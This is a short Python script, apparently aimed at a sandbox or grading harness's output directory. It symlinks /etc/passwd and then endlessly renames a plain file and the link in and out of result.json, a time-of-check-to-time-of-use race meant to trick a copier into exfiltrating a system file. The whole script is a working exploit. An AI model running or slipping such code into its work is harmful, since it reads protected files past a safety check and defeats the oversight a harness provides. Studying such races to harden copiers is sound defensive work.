"""Swaps a file and a link all the time, to fool whoever looks before it copies."""

import os

os.symlink("/etc/passwd", "/agon/output/link")
open("/agon/output/file", "w").close()
while True:
    os.rename("/agon/output/file", "/agon/output/result.json")
    os.rename("/agon/output/result.json", "/agon/output/file")
    os.rename("/agon/output/link", "/agon/output/result.json")
    os.rename("/agon/output/result.json", "/agon/output/link")
